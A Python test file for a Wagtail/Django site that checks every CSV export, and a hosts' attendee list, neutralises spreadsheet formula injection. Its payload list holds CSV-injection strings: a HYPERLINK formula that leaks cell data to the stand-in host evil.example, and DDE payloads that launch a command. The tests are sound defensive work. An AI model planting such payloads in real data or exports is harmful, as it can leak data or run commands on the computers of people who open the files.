"""Every CSV the site writes is safe to open: text a spreadsheet would run as a
formula (=, +, -, @, or a tab or carriage return first) is made plain text.
The walk covers every admin listing with an export and the hosts' attendee list."""

import csv
import io

import pytest
from wagtail.admin.ui.tables import Column
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from events.models import EventHostContact
from network_site.models import OutboundEmail, UndeliverableAddress
from network_site.spreadsheets import FORMULA_STARTS, listing_export, safe_cell, safe_rows
from tests.exports import csv_lines
from tests.factories import (
    AuthorFactory,
    BlogCategoryFactory,
    EventIndexPageFactory,
    EventPageFactory,
    EventRequestFactory,
    LocalAuthorityFactory,
    MembershipFactory,
    OrganisationFactory,
    RegistrationFactory,
    UserFactory,
    VenueFactory,
)
from tests.members.membership_roles import verified_user
from tests.routes import url_patterns

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your receipt")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_makes_a_formula_plain_text(payload):
    assert safe_cell(payload) == "'" + payload


def test_a_csv_keeps_its_rows_and_quoted_newlines():
    original = b'Name,Note\r\n"Ada, Lovelace","two\nlines"\r\n=1+1,ok\r\n'
    chunks = [original[:7], original[7:20], original[20:]]
    rows = list(csv.reader(io.StringIO(b"".join(safe_rows(chunks)).decode())))
    assert rows == [["Name", "Note"], ["Ada, Lovelace", "two\nlines"], ["'=1+1", "ok"]]


def test_a_listing_names_each_exported_column_once():
    columns = ["name", ("get_kind_display", "Kind"), ("fee", "Fee (£)", "formatter")]
    assert listing_export(columns) == (
        ["name", "get_kind_display", "fee"],
        {"get_kind_display": "Kind", "fee": "Fee (£)"},
    )


def test_a_report_exports_its_own_table_columns_under_their_labels():
    columns = [Column("region"), Column("members", label="Active members"), ("gss_code", "GSS")]
    assert listing_export(columns) == (
        ["region", "members", "gss_code"],
        {"region": "Region", "members": "Active members", "gss_code": "GSS"},
    )


def test_safe_cell_leaves_other_values_alone():
    assert safe_cell("Leeds City Council") == "Leeds City Council"
    assert safe_cell(-5) == -5
    assert safe_cell(None) is None
    assert safe_cell("") == ""


def listing_views():
    """(url, view class) of every route whose view exports a spreadsheet (Wagtail's
    own listings that export nothing are left out)."""
    for route, pattern in url_patterns():
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        options = getattr(pattern.callback, "view_initkwargs", {})
        if options.get("list_export", getattr(view_class, "list_export", None)):
            yield "/" + route, view_class


def export_urls():
    return sorted({url for url, _ in listing_views() if "<" not in url})


def test_the_walk_finds_the_sites_exports_and_wagtails_reports():
    urls = export_urls()
    for expected in ["/admin/memberships/", "/admin/registrations/", "/admin/payments/"]:
        assert expected in urls
    assert any(url.startswith("/admin/reports/") for url in urls)


@pytest.fixture
def hostile_records(home_page):
    """A record of each kind the exports list, its text fields typed by an attacker."""
    evil, plus, minus, at, tab, cr = PAYLOADS
    authority = LocalAuthorityFactory(name=evil, short_name=plus)
    organisation = OrganisationFactory(name=minus, website="")
    member = UserFactory(first_name=evil, last_name=at, email="evil@example.org")
    MembershipFactory(
        user=member,
        local_authority=authority,
        ward=tab,
        job_title=cr,
        organisation=organisation,
    )
    event = EventPageFactory(
        parent=EventIndexPageFactory(parent=home_page), venue=VenueFactory(name=plus)
    )
    RegistrationFactory(event=event, user=None, guest_name=evil, guest_email="g@example.org")
    EventRequestFactory(local_authority=authority, title=evil, theme=at)
    AuthorFactory(name=evil, role=minus, organisation=at)
    BlogCategoryFactory(name=evil, description=plus)
    OutboundEmail.objects.create(
        template="account/message", to="x@example.org", subject=evil, body_text="", body_html=""
    )
    UndeliverableAddress.objects.create(email="y@example.org", reason="bounced", detail=evil)
    return event


def cells(response):
    return [cell for row in csv_lines(response) for cell in row]


def test_no_exported_cell_would_run_as_a_formula(superuser_client, hostile_records):
    neutralised = 0
    for url in export_urls():
        response = superuser_client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        for cell in cells(response):
            assert not cell.startswith(FORMULA_STARTS), f"{url}: {cell!r}"
            neutralised += any(cell == "'" + payload for payload in PAYLOADS)
    # The payloads did reach the exports, made plain.
    assert neutralised >= 10


def test_the_hosts_attendee_list_neutralises_formulas(client, hostile_records):
    host = verified_user()
    EventHostContact.objects.create(page=hostile_records, user=host)
    RegistrationFactory(
        event=hostile_records,
        user=None,
        guest_name=PAYLOADS[0],
        guest_email="shared@example.org",
        share_with_hosts=True,
    )
    client.force_login(host)
    response = client.get(f"/members/hosting/{hostile_records.pk}/attendees.csv")
    assert response.status_code == 200
    exported = cells(response)
    assert "'" + PAYLOADS[0] in exported
    assert not any(cell.startswith(FORMULA_STARTS) for cell in exported)
